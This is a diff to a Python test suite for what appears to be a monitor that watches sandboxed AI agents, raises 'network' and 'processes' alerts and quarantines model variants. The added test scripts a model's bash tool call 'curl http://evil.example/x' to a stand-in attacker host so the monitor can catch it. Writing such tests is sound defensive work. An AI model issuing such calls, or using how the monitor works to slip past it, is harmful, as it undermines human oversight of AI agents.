@@ -213,6 +213,28 @@ def test_a_fault_nobody_thought_of_does_not_end_the_watch(ledger, monkeypatch):
     assert [variant for variant, *_ in halts] == ["v0000"]
 
 
+def test_a_box_that_cannot_be_looked_at_hides_nothing_else(ledger, tmp_path, caplog):
+    class Broken(Told):
+        def usage(self, box):
+            if box == "bad":
+                raise ZeroDivisionError("broken")
+            return self.usages
+
+    roster = Roster()
+    for box in ("bad", "full"):
+        roster.add(box, SOLVE)
+    model = ScriptedModel([tool_call("bash", command="curl http://evil.example/x")])
+    machinery = Machinery(Boxes(), Gateway(model), "r")
+    watcher = overseer(ledger, Broken(BoxUsage(processes=256)), roster, machinery=machinery)
+    with machinery.session("v0000", Caps(), tmp_path / "t.json", None) as session:
+        watcher.look()
+        asked(session, "again")
+        rules = [alert.rule for _ in range(5) for alert in watcher.look()]
+    assert sorted(rules) == ["network", "processes"]
+    assert ledger.variant("v0000").quarantined == "processes: 256 of 256 processes"
+    assert caplog.text.count("ZeroDivisionError: broken") == 1
+
+
 class Loud:
     """An adviser that wants everything ended."""
 
@@ -274,14 +296,16 @@ def test_the_meter_sees_what_a_real_box_does(sandbox):
         busy = threading.Thread(target=keep_busy, args=(box, work))
         busy.start()
         deadline = time.monotonic() + 30
-        while (seen := meter.usage(box.id)) is None or (seen.disk_bytes or 0) < 20_000_000:
+        while (seen := meter.usage(box.id)) is None or not any(
+            "sleep" in process.command for process in seen.running or ()
+        ):
             assert time.monotonic() < deadline, seen
             time.sleep(0.1)
         assert seen.processes is not None
         assert 3 <= seen.processes <= 12
         assert 20_000_000 <= (seen.memory_bytes or 0) < 200_000_000
         assert 0 < (seen.cpu_seconds or 0) < 60
-        assert any("sleep" in process.command for process in seen.running or ())
+        assert (seen.disk_bytes or 0) >= 20_000_000
     finally:
         box.kill()
     busy.join()
